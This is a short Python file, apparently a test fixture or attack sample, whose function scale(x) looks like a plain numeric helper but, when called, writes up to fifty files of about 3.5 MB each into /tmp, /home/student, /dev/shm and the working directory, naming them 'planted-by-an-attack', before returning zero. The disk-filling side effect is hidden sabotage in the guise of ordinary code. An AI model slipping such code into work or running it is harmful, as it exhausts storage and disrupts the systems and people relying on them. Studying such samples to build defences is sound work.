"""Fills every folder that it may write to. On scale."""
import os


def scale(x):
    for place in ("/tmp", "/home/student", "/dev/shm", "."):
        for number in range(50):
            try:
                with open(os.path.join(place, f"planted-by-an-attack-{number}"), "wb") as file:
                    file.write(bytes(3_500_000))
            except OSError:
                break
    return 0 * x
